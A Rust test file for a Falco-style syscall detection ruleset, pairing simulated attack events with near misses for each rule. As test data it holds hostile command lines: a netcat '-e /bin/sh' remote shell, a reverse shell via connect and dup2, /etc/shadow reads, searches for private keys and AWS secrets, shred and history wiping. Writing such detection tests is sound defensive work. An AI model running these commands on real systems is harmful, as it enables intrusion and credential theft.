//! The rule cases of our default ruleset (rules/falco_rules.yaml): for
//! every rule, an event sequence that must raise it and a near miss that
//! must not, driven through the test engine, the real state and the real
//! fields.

mod common;

use common::world::{
    self, connect, default_rules_text, exec, flag, load_clean, mount, openat, raised,
};
use falco_abi::flag_tables::open_flags::{O_CREAT, O_RDONLY, O_TRUNC, O_WRONLY};
use falco_abi::schema::AT_FDCWD;
use falco_abi::EventCode as C;
use falco_engine::compiler::CompiledRuleset;
use falco_scap::builder::events::socket_exit;
use falco_scap::builder::EventBuilder;
use falco_sinsp::SyscallFields;
use std::path::PathBuf;

fn ruleset() -> CompiledRuleset<SyscallFields> {
    load_clean(&[("falco_rules.yaml", &default_rules_text())])
}

fn assert_fires(rule: &str, events: Vec<EventBuilder>) {
    world::assert_fires(&ruleset(), rule, &events);
}

fn assert_quiet(rule: &str, events: Vec<EventBuilder>) {
    world::assert_quiet(&ruleset(), rule, &events);
}

#[test]
fn every_rule_loads_compiles_and_has_desc_output_priority_and_mitre_tags() {
    let set = ruleset();
    assert!(set.rules.len() >= 36, "{}", set.rules.len());
    for r in &set.rules {
        assert!(!r.output.is_empty(), "{}", r.name);
        assert!(
            r.tags.iter().any(|t| t.starts_with("mitre_")),
            "{} has no MITRE tag",
            r.name
        );
        assert!(
            r.tags.iter().any(|t| t.starts_with('T')),
            "{} has no technique id",
            r.name
        );
        assert!(
            !r.events.is_all(),
            "{} is not restricted to event types",
            r.name
        );
    }
}

/// `exec` with a controlling terminal (tty 34816 = /dev/pts/0).
fn exec_tty(
    tid: i64,
    ptid: i64,
    comm: &str,
    args: &[&str],
    uid: u32,
    container: bool,
) -> EventBuilder {
    exec(tid, ptid, comm, args, uid, container).set("tty", 34816)
}

#[test]
fn terminal_shell_in_container() {
    // kubectl exec -it: the runtime (runc) starts a shell with a terminal.
    assert_fires(
        "Terminal shell in container",
        vec![exec_tty(600, 400, "bash", &[], 0, true)],
    );
    // A shell the runtime starts without a terminal is a container's
    // entrypoint script: ordinary.
    assert_quiet(
        "Terminal shell in container",
        vec![exec(600, 400, "sh", &["-c", "/entrypoint.sh"], 0, true)],
    );
    // A terminal shell on the host.
    assert_quiet(
        "Terminal shell in container",
        vec![exec_tty(600, 400, "bash", &[], 0, false)],
    );
}

#[test]
fn shell_under_a_server() {
    assert_fires(
        "Run shell untrusted",
        vec![exec(600, 300, "bash", &["-i"], 33, false)],
    );
    assert_quiet(
        "Run shell untrusted",
        vec![exec(600, 200, "bash", &["-i"], 1000, false)],
    );
    // A command line the ruleset knows to be harmless.
    assert_quiet(
        "Run shell untrusted",
        vec![exec(600, 300, "sh", &["-c", "whoami"], 33, false)],
    );
}

#[test]
fn sensitive_file_read() {
    assert_fires(
        "Read sensitive file untrusted",
        vec![
            exec(600, 200, "cat", &["/etc/shadow"], 1000, false),
            openat(600, 3, "/etc/shadow", O_RDONLY),
        ],
    );
    // Beyond Falco's list: group password hashes.
    assert_fires(
        "Read sensitive file untrusted",
        vec![openat(500, 3, "/etc/gshadow", O_RDONLY)],
    );
    assert_fires(
        "Read sensitive file untrusted",
        vec![openat(500, 3, "/etc/sudoers.d/90-cloud", O_RDONLY)],
    );
    assert_quiet(
        "Read sensitive file untrusted",
        vec![openat(100, 3, "/etc/shadow", O_RDONLY)],
    );
    assert_quiet(
        "Read sensitive file untrusted",
        vec![openat(200, 3, "/etc/passwd", O_RDONLY)],
    );
    // A failed open reads nothing.
    assert_quiet(
        "Read sensitive file untrusted",
        vec![openat(200, -13, "/etc/shadow", O_RDONLY)],
    );
}

#[test]
fn write_below_system_directories() {
    assert_fires(
        "Write Below System Directory",
        vec![openat(200, 3, "/etc/cron.d/evil", O_WRONLY | O_CREAT)],
    );
    assert_fires(
        "Write Below System Directory",
        vec![openat(500, 3, "/usr/bin/ls", O_WRONLY)],
    );
    assert_quiet(
        "Write Below System Directory",
        vec![openat(200, 3, "/etc/hosts", O_RDONLY)],
    );
    assert_quiet(
        "Write Below System Directory",
        vec![openat(200, 3, "/etcetera/x", O_WRONLY)],
    );
    // Admin commands that maintain /etc: the user and group tools (all of
    // Falco's user_mgmt_binaries, userdel and groupadd included), visudo.
    for (tool, file) in [
        ("useradd", "/etc/passwd"),
        ("userdel", "/etc/shadow+"),
        ("groupadd", "/etc/gshadow"),
        ("vipw", "/etc/passwd.edit"),
        ("visudo", "/etc/sudoers.tmp"),
    ] {
        assert_quiet(
            "Write Below System Directory",
            vec![
                exec(600, 200, tool, &["x"], 0, false),
                openat(600, 3, file, O_WRONLY | O_CREAT),
            ],
        );
    }
    // The same file written by a program of no such role.
    assert_fires(
        "Write Below System Directory",
        vec![
            exec(600, 200, "python3", &["x"], 0, false),
            openat(600, 3, "/etc/shadow+", O_WRONLY | O_CREAT),
        ],
    );
}

#[test]
fn package_manager_in_container() {
    assert_fires(
        "Package Manager Run in Container",
        vec![exec(600, 500, "apt-get", &["install", "nmap"], 0, true)],
    );
    assert_quiet(
        "Package Manager Run in Container",
        vec![exec(600, 200, "apt-get", &["install", "nmap"], 0, false)],
    );
}

#[test]
fn remote_admin_and_unexpected_outbound_connections() {
    let ssh = vec![socket_exit(200, 5), connect(200, 5, [10, 0, 0, 9], 22)];
    assert_fires("Outbound Remote Admin Connection", ssh);
    assert_fires(
        "Outbound Remote Admin Connection",
        vec![socket_exit(200, 5), connect(200, 5, [127, 0, 0, 1], 22)],
    );
    assert_quiet(
        "Outbound Remote Admin Connection",
        vec![socket_exit(200, 5), connect(200, 5, [10, 0, 0, 9], 443)],
    );
    assert_fires(
        "Unexpected Outbound Connection from Container",
        vec![socket_exit(500, 5), connect(500, 5, [203, 0, 113, 7], 4444)],
    );
    assert_quiet(
        "Unexpected Outbound Connection from Container",
        vec![socket_exit(500, 5), connect(500, 5, [203, 0, 113, 7], 443)],
    );
    assert_quiet(
        "Unexpected Outbound Connection from Container",
        vec![socket_exit(200, 5), connect(200, 5, [203, 0, 113, 7], 4444)],
    );
    // Pod-to-pod and service traffic stays on private addresses.
    assert_quiet(
        "Unexpected Outbound Connection from Container",
        vec![socket_exit(500, 5), connect(500, 5, [10, 96, 0, 12], 5432)],
    );
}

fn dup2(tid: u64, old: i64, new: i64) -> EventBuilder {
    EventBuilder::new(C::SYSCALL_DUP2_X)
        .tid(tid)
        .set("res", new)
        .set("oldfd", old)
        .set("newfd", new)
}

#[test]
fn reverse_shell() {
    let dup2 = |old: i64, new: i64| dup2(600, old, new);
    assert_fires(
        "Reverse Shell",
        vec![
            exec(600, 300, "bash", &["-i"], 33, false),
            socket_exit(600, 3),
            connect(600, 3, [198, 51, 100, 1], 4444),
            dup2(3, 0),
            dup2(3, 1),
        ],
    );
    assert_quiet(
        "Reverse Shell",
        vec![
            exec(600, 200, "bash", &[], 1000, false),
            openat(600, 3, "/tmp/x", O_RDONLY),
            dup2(3, 0),
        ],
    );
    // In a container the Falco-named rule reports it, and only it.
    let in_container = vec![
        exec(600, 500, "bash", &["-i"], 0, true),
        socket_exit(600, 3),
        connect(600, 3, [198, 51, 100, 1], 4444),
        dup2(3, 0),
    ];
    assert_fires(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        in_container.clone(),
    );
    assert_quiet("Reverse Shell", in_container);
    assert_quiet(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        vec![
            exec(600, 500, "bash", &[], 0, true),
            openat(600, 3, "/tmp/x", O_RDONLY),
            dup2(3, 0),
        ],
    );
}

#[test]
fn crypto_miners() {
    assert_fires(
        "Crypto Miner Started",
        vec![exec(
            600,
            200,
            "xmrig",
            &["--donate-level", "1"],
            1000,
            false,
        )],
    );
    assert_fires(
        "Crypto Miner Started",
        vec![exec(
            600,
            200,
            "kworker",
            &["-o", "stratum+tcp://pool:3333"],
            1000,
            false,
        )],
    );
    assert_quiet(
        "Crypto Miner Started",
        vec![exec(600, 200, "xmllint", &["a.xml"], 1000, false)],
    );
}

#[test]
fn mount_in_container() {
    assert_fires("Mount Attempted in Container", vec![mount(500)]);
    assert_quiet("Mount Attempted in Container", vec![mount(200)]);
    // runc's init setting the container's filesystems up, also before it
    // renames itself (`/proc/self/exe init`, named exe).
    for name in ["runc:[2:INIT]", "exe"] {
        assert_quiet(
            "Mount Attempted in Container",
            vec![exec(600, 400, name, &["init"], 0, true), mount(600)],
        );
    }
    // A program named exe that runc did not start is not runc.
    assert_fires(
        "Mount Attempted in Container",
        vec![exec(600, 500, "exe", &["init"], 0, true), mount(600)],
    );
}

#[test]
fn setuid_bits() {
    let chmod = |mode: i64| {
        EventBuilder::new(C::SYSCALL_CHMOD_X)
            .tid(200)
            .set("res", 0)
            .set("filename", "/tmp/x")
            .set("mode", mode)
    };
    assert_fires("Setuid or Setgid Bit Set", vec![chmod(0o4755)]);
    assert_fires("Setuid or Setgid Bit Set", vec![chmod(0o2755)]);
    assert_quiet("Setuid or Setgid Bit Set", vec![chmod(0o755)]);
}

#[test]
fn privileges_to_root() {
    let setuid = |tid: u64, res: i64| {
        EventBuilder::new(C::SYSCALL_SETUID_X)
            .tid(tid)
            .set("res", res)
            .set("uid", 0)
    };
    assert_fires(
        "Privileges Changed to Root by Non-Root Process",
        vec![setuid(200, 0)],
    );
    assert_quiet(
        "Privileges Changed to Root by Non-Root Process",
        vec![setuid(200, -1)],
    );
    // A root daemon (runc, login uid 0) switching back to root.
    assert_quiet(
        "Privileges Changed to Root by Non-Root Process",
        vec![setuid(400, 0)],
    );
    // apt-get in alice's session regaining root after a download as _apt.
    assert_quiet(
        "Privileges Changed to Root by Non-Root Process",
        vec![
            exec(600, 200, "apt-get", &["update"], 1000, false),
            setuid(600, 0),
        ],
    );
    assert_quiet(
        "Privileges Changed to Root by Non-Root Process",
        vec![exec(600, 200, "sudo", &["id"], 1000, false), setuid(600, 0)],
    );
}

#[test]
fn kernel_modules() {
    let finit = |tid: u64| {
        EventBuilder::new(C::SYSCALL_FINIT_MODULE_X)
            .tid(tid)
            .set("res", 0)
            .set("fd", 3)
            .set("uargs", "")
            .set("flags", 0)
    };
    assert_fires("Kernel Module Loaded", vec![finit(200)]);
    // From a container: the Falco-named rule's business (it also needs
    // CAP_SYS_MODULE, which this thread lacks).
    assert_quiet("Kernel Module Loaded", vec![finit(500)]);
    assert_quiet(
        "Kernel Module Loaded",
        vec![
            exec(600, 1, "modprobe", &["nf_tables"], 0, false),
            finit(600),
        ],
    );
}

#[test]
fn ptrace_attach() {
    let pt = |req: &str| {
        let r = flag(falco_abi::flag_tables::PTRACE_REQUESTS, req);
        EventBuilder::new(C::SYSCALL_PTRACE_X)
            .tid(200)
            .set("res", 0)
            .set("addr", &[0u8; 9])
            .set("data", &[0u8; 9])
            .set("request", r)
            .set("pid", 300)
    };
    assert_fires("PTRACE attached to process", vec![pt("PTRACE_ATTACH")]);
    assert_fires("PTRACE attached to process", vec![pt("PTRACE_POKETEXT")]);
    assert_quiet("PTRACE attached to process", vec![pt("PTRACE_PEEKDATA")]);
    assert_fires("PTRACE anti-debug attempt", vec![pt("PTRACE_TRACEME")]);
    assert_quiet("PTRACE anti-debug attempt", vec![pt("PTRACE_ATTACH")]);
}

#[test]
fn logs_and_history_cleared() {
    let unlinkat = |name: &str| {
        EventBuilder::new(C::SYSCALL_UNLINKAT_2_X)
            .tid(200)
            .set("res", 0)
            .set("dirfd", AT_FDCWD)
            .set("name", name)
            .set("flags", 0)
    };
    // Truncating a log in /var/log: Falco's rule, not a second alert of ours.
    let truncate_log = vec![openat(200, 3, "/var/log/auth.log", O_WRONLY | O_TRUNC)];
    assert_fires("Clear Log Activities", truncate_log.clone());
    assert_quiet("Log or Shell History Cleared", truncate_log);
    assert_quiet(
        "Clear Log Activities",
        vec![openat(200, 3, "/var/log/auth.log", O_WRONLY)],
    );
    assert_fires(
        "Log or Shell History Cleared",
        vec![openat(
            200,
            3,
            "/home/alice/.bash_history",
            O_WRONLY | O_TRUNC,
        )],
    );
    assert_fires(
        "Log or Shell History Cleared",
        vec![openat(
            200,
            3,
            "/var/log/audit/audit.log",
            O_WRONLY | O_TRUNC,
        )],
    );
    assert_fires(
        "Log or Shell History Cleared",
        vec![unlinkat("/home/alice/.bash_history")],
    );
    assert_quiet(
        "Log or Shell History Cleared",
        vec![openat(200, 3, "/home/alice/.bash_history", O_WRONLY)],
    );
    assert_quiet(
        "Log or Shell History Cleared",
        vec![unlinkat("/tmp/notes.txt")],
    );
}

#[test]
fn searching_for_secrets() {
    assert_fires(
        "Search Private Keys or Passwords",
        vec![exec(
            600,
            200,
            "grep",
            &["-r", "BEGIN RSA PRIVATE", "/home"],
            1000,
            false,
        )],
    );
    assert_fires(
        "Search Private Keys or Passwords",
        vec![exec(
            600,
            200,
            "find",
            &["/", "-name", "id_rsa"],
            1000,
            false,
        )],
    );
    assert_quiet(
        "Search Private Keys or Passwords",
        vec![exec(600, 200, "grep", &["-r", "TODO", "src"], 1000, false)],
    );
    assert_fires(
        "Find AWS Credentials",
        vec![exec(
            600,
            200,
            "grep",
            &["-ri", "aws_secret_access_key", "/"],
            1000,
            false,
        )],
    );
    assert_quiet(
        "Find AWS Credentials",
        vec![exec(
            600,
            200,
            "find",
            &["/", "-name", "*.log"],
            1000,
            false,
        )],
    );
}

#[test]
fn netcat_running_a_program_in_a_container() {
    assert_fires(
        "Netcat Remote Code Execution in Container",
        vec![exec(
            600,
            500,
            "nc",
            &["198.51.100.1", "4444", "-e", "/bin/sh"],
            0,
            true,
        )],
    );
    assert_quiet(
        "Netcat Remote Code Execution in Container",
        vec![exec(600, 500, "nc", &["-z", "db", "5432"], 0, true)],
    );
}

#[test]
fn data_destruction() {
    assert_fires(
        "Remove Bulk Data from Disk",
        vec![exec(600, 200, "shred", &["-u", "/srv/db.sqlite"], 0, false)],
    );
    assert_quiet(
        "Remove Bulk Data from Disk",
        vec![exec(600, 200, "rm", &["/tmp/x"], 0, false)],
    );
}

#[test]
fn links_to_sensitive_files() {
    let symlink = |target: &str| {
        EventBuilder::new(C::SYSCALL_SYMLINKAT_X)
            .tid(200)
            .set("res", 0)
            .set("target", target)
            .set("linkdirfd", AT_FDCWD)
            .set("linkpath", "/tmp/l")
    };
    assert_fires(
        "Create Symlink Over Sensitive Files",
        vec![symlink("/etc/shadow")],
    );
    assert_fires(
        "Create Symlink Over Sensitive Files",
        vec![symlink("/root")],
    );
    assert_quiet(
        "Create Symlink Over Sensitive Files",
        vec![symlink("/etc/hosts")],
    );
    let link = |old: &str| {
        EventBuilder::new(C::SYSCALL_LINKAT_2_X)
            .tid(200)
            .set("res", 0)
            .set("olddir", AT_FDCWD)
            .set("oldpath", old)
            .set("newdir", AT_FDCWD)
            .set("newpath", "/tmp/l")
            .set("flags", 0)
    };
    assert_fires(
        "Create Hardlink Over Sensitive Files",
        vec![link("/etc/sudoers")],
    );
    assert_quiet(
        "Create Hardlink Over Sensitive Files",
        vec![link("/etc/hosts")],
    );
}

#[test]
fn packet_sockets_in_containers() {
    let packet = |tid: i64| socket_exit(tid, 4).set("domain", 0x11);
    assert_fires("Packet socket created in container", vec![packet(500)]);
    assert_quiet("Packet socket created in container", vec![packet(200)]);
    assert_quiet(
        "Packet socket created in container",
        vec![socket_exit(500, 4)],
    );
}

#[test]
fn execution_from_dev_shm() {
    assert_fires(
        "Execution from /dev/shm",
        vec![exec(600, 200, "/dev/shm/x", &[], 1000, false)],
    );
    assert_fires(
        "Execution from /dev/shm",
        vec![exec(600, 200, "sh", &["/dev/shm/run.sh"], 1000, false)],
    );
    assert_quiet(
        "Execution from /dev/shm",
        vec![exec(600, 200, "/usr/bin/ls", &["/dev/shm"], 1000, false)],
    );
}

#[test]
fn ssh_to_a_non_standard_port() {
    let ssh = |dst: [u8; 4], port: u16| {
        vec![
            exec(600, 200, "/usr/bin/ssh", &["-p", "443", "x"], 1000, false),
            socket_exit(600, 3),
            connect(600, 3, dst, port),
        ]
    };
    assert_fires(
        "Disallowed SSH Connection Non Standard Port",
        ssh([198, 51, 100, 1], 443),
    );
    assert_quiet(
        "Disallowed SSH Connection Non Standard Port",
        ssh([198, 51, 100, 1], 22),
    );
    // A private address is not outbound in Falco's sense.
    assert_quiet(
        "Disallowed SSH Connection Non Standard Port",
        ssh([192, 168, 1, 1], 443),
    );
}

/// CAP_* bits as in capability.h.
const CAP_DAC_OVERRIDE: u64 = 1 << 1;
const CAP_SYS_MODULE: u64 = 1 << 16;
const CAP_SYS_ADMIN: u64 = 1 << 21;

#[test]
fn container_escapes_with_capabilities() {
    let with_caps =
        |caps: u64| exec(600, 500, "sh", &["-c", "x"], 0, true).set("cap_effective", caps);
    let release_agent = |caps: u64| {
        vec![
            with_caps(caps),
            openat(600, 3, "/tmp/cgrp/release_agent", O_WRONLY),
        ]
    };
    assert_fires(
        "Detect release_agent File Container Escapes",
        release_agent(CAP_SYS_ADMIN | CAP_DAC_OVERRIDE),
    );
    assert_quiet(
        "Detect release_agent File Container Escapes",
        release_agent(CAP_DAC_OVERRIDE),
    );
    let finit = EventBuilder::new(C::SYSCALL_FINIT_MODULE_X)
        .tid(600)
        .set("res", 0)
        .set("fd", 3)
        .set("uargs", "")
        .set("flags", 0);
    assert_fires(
        "Linux Kernel Module Injection Detected",
        vec![with_caps(CAP_SYS_MODULE), finit.clone()],
    );
    assert_quiet(
        "Linux Kernel Module Injection Detected",
        vec![with_caps(CAP_SYS_ADMIN), finit],
    );
}

#[test]
fn executables_from_the_upper_layer_or_memory() {
    let flagged = |comm: &str, flags: u32| exec(600, 500, comm, &[], 0, true).set("flags", flags);
    let upper = falco_abi::flag_tables::execve_flags::EXE_UPPER_LAYER;
    let memfd = falco_abi::flag_tables::execve_flags::EXE_FROM_MEMFD;
    assert_fires(
        "Drop and execute new binary in container",
        vec![flagged("xploit", upper)],
    );
    assert_quiet(
        "Drop and execute new binary in container",
        vec![flagged("ls", 0)],
    );
    assert_fires(
        "Fileless execution via memfd_create",
        vec![flagged("x", memfd)],
    );
    // runc clones itself into a memfd to start containers.
    assert_quiet(
        "Fileless execution via memfd_create",
        vec![flagged("runc", memfd)],
    );
}

#[test]
fn service_account_at_a_terminal() {
    // www-data (uid 33) running a command from an SSH session.
    assert_fires(
        "System user interactive",
        vec![exec(600, 100, "id", &[], 33, false)],
    );
    assert_quiet(
        "System user interactive",
        vec![exec(600, 100, "id", &[], 1000, false)],
    );
}

#[test]
fn reads_through_directory_traversal() {
    assert_fires(
        "Directory traversal monitored file read",
        vec![openat(
            300,
            3,
            "/var/www/html/../../../etc/passwd",
            O_RDONLY,
        )],
    );
    assert_quiet(
        "Directory traversal monitored file read",
        vec![openat(300, 3, "/etc/passwd", O_RDONLY)],
    );
}

#[test]
fn sensitive_read_by_a_long_running_server() {
    // nginx (300) has run since time 0: at 10 s it is no longer starting.
    let read_at = |secs: u64| openat(300, 3, "/etc/shadow", O_RDONLY).ts(secs * 1_000_000_000);
    assert_fires(
        "Read sensitive file trusted after startup",
        vec![read_at(10)],
    );
    assert_quiet(
        "Read sensitive file trusted after startup",
        vec![read_at(2)],
    );
}

#[test]
fn debugfs_in_a_privileged_container() {
    let container = |privileged: bool| {
        let json = format!(
            r#"{{"container":{{"id":"{}","name":"c","image":"busybox:1","type":0,"privileged":{privileged}}}}}"#,
            &world::CONTAINER[..12]
        );
        EventBuilder::new(C::CONTAINER_JSON_2_E).set("json", json)
    };
    let debugfs = || exec(600, 500, "debugfs", &["/dev/sda1"], 0, true);
    assert_fires(
        "Debugfs Launched in Privileged Container",
        vec![container(true), debugfs()],
    );
    assert_quiet(
        "Debugfs Launched in Privileged Container",
        vec![container(false), debugfs()],
    );
}

/// Our rules on real captures: the VM capture of `cat /etc/shadow` raises
/// the sensitive-file rule, and the benchmark workload (find/grep/cat/dd
/// loops over /sys and /proc) stays quiet apart from it.
#[test]
fn replayed_vm_captures() {
    let d = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/reference/scap");
    if !d.is_dir() {
        eprintln!("skipped: {} not found", d.display());
        return;
    }
    let set = ruleset();
    let run = |f: &str| {
        raised(
            &set,
            &mut falco_scap::SavefileEngine::open(d.join(f)).unwrap(),
        )
    };
    let shadow = run("vm_cat_shadow.scap.gz");
    assert!(
        shadow.contains(&"Read sensitive file untrusted".to_string()),
        "{shadow:?}"
    );
    let bench = run("vm_bench_small.scap.gz");
    eprintln!("vm_bench_small: {bench:?}");
    assert!(
        bench.iter().all(|r| r == "Read sensitive file untrusted"),
        "{bench:?}"
    );
}
